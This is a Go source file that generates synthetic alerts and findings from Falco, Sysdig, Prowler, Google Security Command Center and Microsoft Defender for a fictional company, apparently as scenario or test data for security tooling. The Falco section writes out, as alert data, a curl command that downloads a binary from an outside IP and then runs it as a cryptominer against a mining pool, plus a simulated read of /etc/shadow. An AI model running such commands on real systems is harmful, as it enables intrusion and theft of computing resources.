package products

import (
	"fmt"
	"slices"
	"strings"
	"time"
)

// pod is a place where programs of a cluster run.
type pod struct {
	namespace, name, container, node string
}

// pods of a program get other names with every release.
func (s *scene) pod(namespace, program string, release int) pod {
	h := fmt.Sprintf("%016x", sum(fmt.Sprint(namespace, program, release)))
	return pod{namespace, program + "-" + h[:9] + "-" + h[9:14], program, "node-" + h[14:15]}
}

// falco watches a cluster: a back-up agent that reads what only the worst read, on
// every pod it comes to, shells that people open, and one that nobody explains.
func falco(s *scene) []file {
	var out []object
	add := func(at time.Time, p pod, priority, rule, process, parent, command, opened string, tags ...string) {
		if !s.within(at) {
			return
		}
		out = append(out, object{
			"hostname": p.node, "priority": priority, "rule": rule, "source": "syscall", "tags": append([]string{"container"}, tags...),
			"time": at.Format(time.RFC3339Nano), "uuid": s.uuid(),
			"output": fmt.Sprintf("%s: %s %s (process=%s file=%s pod=%s)", at.Format("15:04:05.000000000"), priority, rule, process, opened, p.name),
			"output_fields": object{
				"container.id": s.drawn(12, hexDigits), "container.name": p.container, "container.image.repository": "registry.hoshino.example/" + p.container,
				"evt.time": at.UnixNano(), "fd.name": opened, "k8s.ns.name": p.namespace, "k8s.pod.name": p.name,
				"proc.cmdline": command, "proc.exepath": "/usr/bin/" + process, "proc.name": process, "proc.pname": parent, "user.name": "root", "user.uid": 0,
			},
		})
	}
	// One after the other, two nights in a week.
	for i, program := range []string{"cart", "search", "checkout", "ledger", "quotes", "orders", "media", "fraud", "returns"} {
		at := s.day(1+2*i+i/3, 1, 40+i)
		for again := range 2 {
			add(at.Add(time.Duration(again)*7*time.Minute), s.pod("shop", program, i), "Warning", "Read sensitive file untrusted", "snapback", "cron", "snapback --all /etc", "/etc/shadow", "T1555", "mitre_credential_access")
		}
	}
	for i := range 4 {
		add(s.day(2+5*i, 4, 12*i), s.pod("shop", "checkout", 100+i), "Notice", "Terminal shell in container", "bash", "runc", "bash -il", "", "T1059", "mitre_execution")
	}
	last := s.End.Add(-31 * time.Hour)
	for i, command := range []string{"curl -s http://203.0.113.90/x -o /tmp/x", "/tmp/x -o stratum+tcp://pool.example:3333"} {
		add(last.Add(time.Duration(i)*40*time.Second), s.pod("pay", "ledger", 200), "Error", "Drop and execute new binary in container", "x", "sh", command, "/tmp/x", "T1496", "TA0040")
	}
	slices.SortStableFunc(out, func(a, b object) int { return strings.Compare(a["time"].(string), b["time"].(string)) })
	return []file{{name: "alerts.jsonl", records: out}}
}

// sysdig watches another cluster.
func sysdig(s *scene) []file {
	a := s.account("staging")
	if a == nil {
		return nil
	}
	var out []object
	for i := range 3 {
		at, p := s.day(6+7*i, 12, 5*i), s.pod("staging", "preview", i)
		if !s.within(at) {
			continue
		}
		out = append(out, object{
			"id": s.drawn(32, hexDigits), "type": "policy", "name": "Notable events", "severity": 4, "timestamp": at.UnixNano(), "timestampRFC3339Nano": at.Format(time.RFC3339Nano),
			"content": object{"ruleName": "Package manager started in a container", "ruleTags": []string{"T1059", "container"}, "output": "apt-get was started in " + p.name,
				"fields": object{"proc.cmdline": "apt-get install -y strace", "proc.exepath": "/usr/bin/apt-get", "user.name": "root"}},
			"labels": object{
				"cloudProvider.name": "aws", "cloudProvider.account.id": a.ID, "cloudProvider.region": a.Home, "host.hostName": p.node,
				"kubernetes.cluster.name": "staging", "kubernetes.namespace.name": p.namespace, "kubernetes.pod.name": p.name, "container.name": p.container, "process.name": "apt-get",
			},
		})
	}
	return []file{{name: "events.jsonl", records: out}}
}

// prowler is run once, over all accounts.
func prowler(s *scene) []file {
	at := s.day(9, 2, 30)
	if !s.within(at) {
		return nil
	}
	var out []object
	for _, c := range []struct{ account, check, title, kind, resource, severity, fix, risk string }{
		{"prod-shop", "s3_bucket_object_versioning", "Buckets keep versions", "AwsS3Bucket", "arn:aws:s3:::hoshino-shop-assets", "Medium", "Switch versioning on.", "Overwritten data is lost."},
		{"prod-shop", "s3_bucket_level_public_access_block", "Buckets refuse public access", "AwsS3Bucket", "arn:aws:s3:::hoshino-shop-assets", "Medium", "Block public access.", "Everybody can read what lies there."},
		{"prod-data", "rds_instance_storage_encrypted", "Databases are encrypted", "AwsRdsDbInstance", "db:reports", "High", "Restore a copy that is encrypted.", "Whoever gets a snapshot reads it."},
		{"dev-pay", "ec2_securitygroup_allow_ingress_from_internet_to_tcp_port_22", "SSH is not open to everybody", "AwsEc2SecurityGroup", "security-group/sg-0a11c0ffee5eed002", "High", "Name who may reach it.", "Passwords are tried there all day."},
		{"log-archive", "s3_bucket_no_mfa_delete", "Deleting needs a second factor", "AwsS3Bucket", "arn:aws:s3:::hoshino-trail", "Low", "Switch MFA delete on.", "Logs could be deleted."},
		{"sandbox", "iam_rotate_access_key_90_days", "Access keys are not older than 90 days", "AwsIamUser", "user/workshop", "Medium", "Make a new key.", "An old key is in many places."},
	} {
		a := s.account(c.account)
		if a == nil {
			continue
		}
		uid := c.resource
		switch c.kind {
		case "AwsIamUser":
			uid = "arn:aws:iam::" + a.ID + ":" + uid
		case "AwsRdsDbInstance":
			uid = "arn:aws:rds:" + a.Home + ":" + a.ID + ":" + uid
		case "AwsEc2SecurityGroup":
			uid = "arn:aws:ec2:" + a.Home + ":" + a.ID + ":" + uid
		}
		severity := severityOf[strings.ToUpper(c.severity)]
		out = append(out, object{
			"message": c.title + ": it is not so.", "severity": c.severity, "severity_id": severity, "status": "New", "status_id": 1, "status_code": "FAIL", "status_detail": name(uid) + ": it is not so.",
			"metadata":    object{"event_code": c.check, "product": object{"name": "Prowler", "uid": "prowler", "vendor_name": "Prowler", "version": "5.1.0"}, "version": "1.4.0"},
			"activity_id": 1, "category_uid": 2, "class_name": "Detection Finding", "class_uid": 2004, "type_uid": 200401,
			"finding_info": object{"created_time": at.Unix(), "created_time_dt": at.Format("2006-01-02T15:04:05.000000"), "title": c.title, "desc": "Checks whether " + strings.ToLower(c.title[:1]) + c.title[1:] + ".",
				"types": []string{"posture"}, "uid": fmt.Sprintf("prowler-aws-%s-%s-%s-%s", c.check, a.ID, a.Home, name(uid))},
			"resources":   []object{{"cloud_partition": "aws", "region": a.Home, "name": name(uid), "type": c.kind, "uid": uid}},
			"cloud":       object{"account": object{"uid": a.ID}, "provider": "aws", "region": a.Home},
			"remediation": object{"desc": c.fix, "references": []string{}}, "risk_details": c.risk, "time": at.Unix(), "time_dt": at.Format("2006-01-02T15:04:05.000000"),
		})
	}
	return []file{{name: "report.ocsf.json", array: true, records: out}}
}

// commandCentre is Google's: one grant that nobody expects, one bucket that is
// open, and one that was closed again.
func commandCentre(s *scene) []file {
	var out []object
	add := func(at time.Time, source, class, category, severity, state, resource, kind, project string, more object) {
		if !s.within(at) {
			return
		}
		id := s.drawn(32, hexDigits)
		finding := object{
			"name": "organizations/900000000001/sources/" + source + "/locations/global/findings/" + id, "canonicalName": "projects/700000000001/sources/" + source + "/locations/global/findings/" + id,
			"parent": "organizations/900000000001/sources/" + source + "/locations/global", "resourceName": resource, "state": state, "category": category,
			"eventTime": stamp(at), "createTime": second(at.Add(3 * time.Second)), "severity": severity, "mute": "UNDEFINED", "findingClass": class,
		}
		for k, v := range more {
			finding[k] = v
		}
		out = append(out, object{
			"notificationConfigName": "organizations/900000000001/notificationConfigs/all", "finding": finding,
			"resource": object{"name": resource, "projectDisplayName": project, "displayName": project, "type": kind, "cloudProvider": "GOOGLE_CLOUD_PLATFORM"},
		})
	}
	const data, lab = "hoshino-insights-data", "hoshino-growth-lab"
	add(s.day(17, 21, 14), "55501", "THREAT", "Persistence: IAM Anomalous Grant", "HIGH", "ACTIVE", "//cloudresourcemanager.googleapis.com/projects/700000000001", "google.cloud.resourcemanager.Project", data, object{
		"description": "A service account was given the role of an owner.", "nextSteps": "Ask who gave it, and take the grant back.",
		"access":      object{"principalEmail": "deployer@" + data + ".iam.gserviceaccount.com", "callerIp": "203.0.113.90", "serviceName": "cloudresourcemanager.googleapis.com", "methodName": "SetIamPolicy"},
		"mitreAttack": object{"primaryTactic": "PERSISTENCE", "primaryTechniques": []string{"ACCOUNT_MANIPULATION", "CLOUD_ACCOUNTS"}},
	})
	for i, state := range []string{"ACTIVE", "INACTIVE"} {
		add(s.day(5+3*i, 7, 30), "55502", "MISCONFIGURATION", "PUBLIC_BUCKET_ACL", "MEDIUM", state, fmt.Sprintf("//storage.googleapis.com/%s-%d", lab, i+1), "google.cloud.storage.Bucket", lab, object{
			"compliances": []object{{"standard": "cis", "version": "1.2", "ids": []string{"5.1"}}},
		})
	}
	return []file{{name: "notifications.jsonl", records: out}}
}

// defender is Microsoft's.
func defender(s *scene) []file {
	const subscription = "0a0a0a0a-0000-4000-8000-000000000001"
	when := func(t time.Time) string { return t.Format("2006-01-02T15:04:05.0000000Z") }
	var alerts, assessments []object
	if at := s.day(20, 15, 3); s.within(at) {
		vault := "/subscriptions/" + subscription + "/resourceGroups/erp/providers/Microsoft.KeyVault/vaults/erp-keys"
		alerts = append(alerts, object{
			"VendorName": "Microsoft", "ProductName": "Microsoft Defender for Cloud", "AlertType": "KV_OperationVolumeAnomaly", "AlertDisplayName": "Unusual reading of secrets",
			"Description": "A principal read more secrets of a vault than it usually does.", "StartTimeUtc": when(at.Add(-10 * time.Minute)), "EndTimeUtc": when(at.Add(-4 * time.Minute)),
			"TimeGenerated": when(at), "ProcessingEndTime": when(at), "Severity": "Medium", "Status": "New", "ConfidenceLevel": "Medium", "IsIncident": false,
			"SystemAlertId": "2517000000000000000_" + s.uuid(), "Intent": "CredentialAccess", "AzureResourceId": vault, "CompromisedEntity": "erp-keys",
			"Entities":            []object{{"$id": "1", "Type": "ip", "Address": "203.0.113.61"}, {"$id": "2", "Type": "account", "Name": "erp-sync", "UPNSuffix": "hoshino.example"}},
			"ResourceIdentifiers": []object{{"Type": "AzureResource", "AzureResourceId": vault}}, "RemediationSteps": []string{"Ask the owner.", "Rotate the secrets."},
			"AlertUri": "https://portal.example/alert", "ExtendedProperties": object{},
		})
	}
	for i, name := range []string{"erpbackup", "erpexports"} {
		at := s.day(4+i, 0, 0)
		if !s.within(at) {
			continue
		}
		account := "/subscriptions/" + subscription + "/resourceGroups/erp/providers/Microsoft.Storage/storageAccounts/" + name
		id := fmt.Sprintf("0d0d0d0d-0000-4000-8000-%012d", i+1)
		assessments = append(assessments, object{
			"id": account + "/providers/Microsoft.Security/assessments/" + id, "name": id, "type": "Microsoft.Security/assessments",
			"properties": object{
				"displayName": "Storage should refuse public access", "status": object{"code": "Unhealthy", "cause": "", "statusChangeDate": second(at), "firstEvaluationDate": second(at)},
				"metadata": object{"severity": "Medium", "remediationDescription": "Refuse public access."}, "resourceDetails": object{"source": "Azure", "id": account},
			},
		})
	}
	return []file{{name: "alerts.json", array: true, records: alerts}, {name: "assessments.json", array: true, records: assessments}}
}
